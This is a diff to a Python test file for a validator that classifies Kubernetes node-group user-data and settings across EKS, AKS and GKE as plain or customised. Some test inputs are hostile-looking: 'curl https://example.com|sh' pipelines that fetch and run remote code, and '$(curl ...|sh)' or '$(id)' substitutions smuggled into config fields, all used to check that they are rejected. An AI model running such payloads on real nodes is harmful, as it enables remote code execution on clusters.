@@ -21,6 +21,7 @@ from providers.aws.by_hand import is_plain
 
 Inputs = dict[str, Any]
 GROUP, TEMPLATE = "aws:eks/nodeGroup:NodeGroup", "aws:ec2/launchTemplate:LaunchTemplate"
+SELF_MANAGED, EKS_MANAGED, EKS_CLUSTER = "eks:index:NodeGroupV2", "eks:index:ManagedNodeGroup", "eks:index:Cluster"
 AGENT_POOL, NODE_POOL = "azure-native:containerservice:AgentPool", "gcp:container/nodePool:NodePool"
 CLASSIC = "azure:containerservice/kubernetesClusterNodePool:KubernetesClusterNodePool"
 
@@ -43,6 +44,28 @@ def nodes(**config: Any) -> Inputs:
 
 JOINS = "#!/bin/bash\n/etc/eks/bootstrap.sh train\ncurl https://example.com/agent | sh\n"
 PLAIN = '[settings.kubernetes]\ncluster-name = "train"\napi-server = "https://x"\nmax-pods = 8\n'
+
+
+NODE_CONFIG = """\
+# the cluster's part
+apiVersion: node.eks.aws/v1alpha1
+kind: NodeConfig
+spec:
+  cluster:
+    name: train
+    apiServerEndpoint: https://example.eks.amazonaws.com
+    certificateAuthority: Y2E=
+    cidr: 10.100.0.0/16
+  kubelet:
+    config: {maxPods: 17, clusterDNS: [10.100.0.10]}
+    flags: [--node-labels=team=ml, "--register-with-taints=nvidia.com/gpu=present:NoSchedule"]
+"""
+"""What only joins, as awslabs/amazon-eks-ami nodeadm/doc/examples.md writes it."""
+
+
+def mime(content_type: str, body: str) -> str:
+    head = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\n'
+    return f"{head}Content-Type: {content_type}\n\n{body}\n--B--\n"
 
 
 def said(token: str, inputs: Inputs, **config: Any) -> list[str]:
@@ -73,6 +96,27 @@ def said(token: str, inputs: Inputs, **config: Any) -> list[str]:
             "sysctls kubeletConfig.allowedUnsafeSysctls",
         ),
         (CLASSIC, agents(linuxOsConfig={"sysctlConfig": {"vmSwappiness": 1}}), "sysctls linuxOsConfig.sysctlConfig"),
+        (SELF_MANAGED, machine(nodeUserData="curl https://example.com|sh"), "user-data nodeUserData"),
+        (SELF_MANAGED, machine(nodeUserDataOverride=JOINS), "user-data nodeUserDataOverride"),
+        (SELF_MANAGED, machine(kubeletExtraArgs="--allowed-unsafe-sysctls=net.*"), "user-data kubeletExtraArgs"),
+        (SELF_MANAGED, machine(bootstrapExtraArgs="--pause-container-account x"), "user-data bootstrapExtraArgs"),
+        (SELF_MANAGED, machine(nodeUserData=UNKNOWN), "user-data nodeUserData"),
+        (
+            SELF_MANAGED,
+            machine(nodeadmExtraOptions=[{"contentType": "text/x-shellscript", "content": "#!/bin/sh\ntrue\n"}]),
+            "user-data nodeadmExtraOptions[0]",
+        ),
+        (
+            SELF_MANAGED,
+            machine(bottlerocketSettings={"settings": {"host-containers": {"admin": {"enabled": True}}}}),
+            "user-data bottlerocketSettings",
+        ),
+        (
+            EKS_CLUSTER,
+            {"nodeGroupOptions": machine(nodeUserData="true")},
+            "user-data nodeGroupOptions.nodeUserData",
+        ),
+        (EKS_MANAGED, {"instanceTypes": ["g6.xlarge"], "userData": JOINS}, "user-data userData"),
         (NODE_POOL, nodes(metadata={"startup-script": "x"}), "start-up-script nodeConfig.metadata.startup-script"),
         (
             NODE_POOL,
@@ -107,6 +151,19 @@ def test_what_is_customised_is_told_once_and_a_reason_ends_it(token: str, inputs
     [
         (TEMPLATE, machine(userData=encoded(PLAIN))),
         (TEMPLATE, machine(instanceType="m7i.large", userData=encoded(JOINS))),
+        (TEMPLATE, machine(userData=encoded(NODE_CONFIG))),
+        (SELF_MANAGED, machine()),
+        (SELF_MANAGED, machine(nodeUserData="true", instanceType="m7i.large")),
+        (
+            SELF_MANAGED,
+            machine(
+                nodeUserDataOverride=NODE_CONFIG,
+                kubeletExtraArgs="--node-labels=a=b --register-with-taints=nvidia.com/gpu=present:NoSchedule",
+                bootstrapExtraArgs="--use-max-pods false",
+                nodeadmExtraOptions=[{"contentType": "application/node.eks.aws", "content": NODE_CONFIG}],
+                bottlerocketSettings={"settings": {"kubernetes": {"max-pods": 8}}},
+            ),
+        ),
         (GROUP, {"instanceTypes": ["g6.xlarge"], "nodeRoleArn": "arn:aws:iam::1:role/x"}),
         (AGENT_POOL, agents(kubeletConfig={"podMaxPids": 4096}, networkProfile={"allowedHostPorts": []})),
         (AGENT_POOL, {"vmSize": "Standard_D4s_v5", "linuxOSConfig": {"sysctls": {"vmSwappiness": 1}}}),
@@ -123,9 +180,13 @@ def test_what_is_not_customised_or_has_no_gpu_passes(token: str, inputs: Inputs)
         al2023_user_data(max_pods=5, local_nvme=True),
         bottlerocket_settings("H100-80GB", Mig(mode="mig", profile="1g.10gb"), max_pods=4, local_nvme=True),
         bottlerocket_settings("L4", TimeSlicing(mode="time-slicing", replicas=4)),
+        NODE_CONFIG,
+        f"{NODE_CONFIG}---\n{NODE_CONFIG}",
+        mime("application/node.eks.aws", NODE_CONFIG),
+        f"# shares the GPUs\n{PLAIN}",
     ],
 )
-def test_what_this_tool_writes_itself_is_plain(text: str) -> None:
+def test_what_this_tool_writes_itself_or_only_joins_is_plain(text: str) -> None:
     assert is_plain(encoded(text))
 
 
@@ -138,6 +199,18 @@ def test_what_this_tool_writes_itself_is_plain(text: str) -> None:
         "#!/bin/sh\ntrue\n",
         "#cloud-config\nruncmd: [true]\n",
         "[settings.bootstrap-containers.mine]\nsource = 'x'\n",
+        NODE_CONFIG.replace("--node-labels=team=ml", "--anonymous-auth=true"),
+        NODE_CONFIG.replace("team=ml", "team=$(id)"),
+        NODE_CONFIG.replace("maxPods: 17", "allowedUnsafeSysctls: [net.*]"),
+        NODE_CONFIG + "  containerd: {config: x}\n",
+        f"{NODE_CONFIG}---\nspec: {{instance: {{sshKey: x}}}}\n",
+        NODE_CONFIG.replace("17", "[17"),
+        # One text that is a script as well: bash runs what is in the parentheses.
+        f"#!/bin/bash\n{NODE_CONFIG}".replace("Y2E=", "$(curl https://example.com|sh)"),
+        f"#!/bin/bash\n{PLAIN}".replace('"train"', '"$(curl https://example.com|sh)"'),
+        mime("text/x-shellscript", NODE_CONFIG),
+        mime("text/x-include-url", NODE_CONFIG),
+        f"#include\n{NODE_CONFIG}",
     ],
 )
 def test_anything_more_is_not(text: str) -> None:
